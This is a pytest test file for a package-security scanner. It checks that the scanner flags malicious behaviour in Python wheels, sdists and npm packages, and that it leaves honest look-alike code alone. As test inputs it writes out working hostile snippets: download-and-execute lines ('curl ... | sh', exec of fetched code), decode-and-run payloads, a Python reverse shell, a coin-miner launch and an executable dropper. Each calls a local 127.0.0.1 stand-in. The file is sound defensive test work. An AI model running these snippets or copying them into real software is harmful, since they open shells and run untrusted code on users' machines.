"""Running: what nobody has read."""

from __future__ import annotations

from collections.abc import Callable

import pytest

Rules = Callable[..., set[str]]
FINDS = [
    ("runs-downloaded-code", "wheel", "import requests\nexec(requests.get('http://127.0.0.1:9/').text)"),
    (
        "runs-downloaded-code",
        "npm",
        (
            "require('https').get('http://127.0.0.1:9/', r => { let b=''; r.on('data', d => b += d); r.on('end', () => "
            "eval(b)); })"
        ),
    ),
    ("runs-downloaded-code", "sdist", "import os\nos.system('curl -s http://127.0.0.1:9/a | sh')"),
    (
        "runs-downloaded-code-when-called",
        "wheel",
        "import requests\ndef f(u):\n    exec(requests.get(u).text)",
    ),
    ("decodes-and-runs", "wheel", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
    ("decodes-and-runs", "npm", "eval(Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString())"),
    (
        "decodes-and-runs-when-called",
        "wheel",
        "import codecs\ndef f():\n    exec(codecs.decode('cevag(1)', 'rot13'))",
    ),
    (
        "opens-shell",
        "wheel",
        (
            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), "
            "0)\nsubprocess.call(['/bin/sh', '-i'])"
        ),
    ),
    (
        "mines-coins",
        "wheel",
        "import subprocess\nsubprocess.Popen(['./x', '-o', 'stratum+tcp://127.0.0.1:9'])",
    ),
    (
        "drops-executable",
        "wheel",
        (
            "import os, subprocess, base64\nopen('/tmp/dropped.bin', 'wb').write(base64.b64decode('AAAA' + "
            "input()))\nsubprocess.Popen('/tmp/dropped.bin')"
        ),
    ),
    ("runs-at-install", "sdist", "import os\nos.system('./configure-all')"),
]
IGNORES = [
    ("wheel", "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n"),
    (
        "sdist",
        "from setuptools import setup\nns = {}\nexec(open('inert/version.py').read(), ns)\nsetup(name='x', version=ns['v'])",
    ),
    ("wheel", "import importlib\ndef load(name):\n    return importlib.import_module(name)\n"),
    (
        "npm",
        "const { execSync } = require('child_process');\nexports.sha = () => execSync('git rev-parse HEAD').toString();",
    ),
    (
        "wheel",
        "import base64, zlib, json\nTABLE = json.loads(zlib.decompress(base64.b64decode('eJyrVgIAAHsAeQ==')))\n",
    ),
]


@pytest.mark.parametrize(("rule", "kind", "code"), FINDS)
def test_it_finds(rule: str, kind: str, code: str, rules_of: Rules) -> None:
    """The behaviour, in its plain form."""
    assert rule in rules_of(_files(code, kind), kind)


@pytest.mark.parametrize(("kind", "code"), IGNORES)
def test_it_lets_honest_code_be(kind: str, code: str, rules_of: Rules) -> None:
    """Nothing of high severity for what uses the same pieces honestly."""
    assert rules_of(_files(code, kind), kind, high=True) == set()


def _files(code: str, kind: str) -> dict[str, str]:
    return {{"npm": "index.js", "sdist": "setup.py"}.get(kind, "inert/__init__.py"): code}


def test_a_start_up_file_is_named_and_what_it_does_is_worse(rules_of: Rules) -> None:
    """A line of import in a .pth runs at each start."""
    tame = rules_of({"x.pth": "import inert_hook\n", "inert_hook.py": "x = 1\n"})
    wild = rules_of({"x.pth": "import os; os.system('true')\n"})

    assert "runs-at-startup" in tame
    assert "acts-at-startup" not in tame
    assert "acts-at-startup" in wild


def test_scripts_of_npm_are_followed_into_the_files_they_name(rules_of: Rules) -> None:
    """postinstall: node x.js."""
    files = {"x.js": "require('child_process').exec('curl http://127.0.0.1:9/a | bash')"}
    assert "runs-downloaded-code" in rules_of(files, "npm", scripts={"postinstall": "node x.js"})
    assert rules_of(files, "npm", high=True, scripts={"test": "node x.js"}) == set()
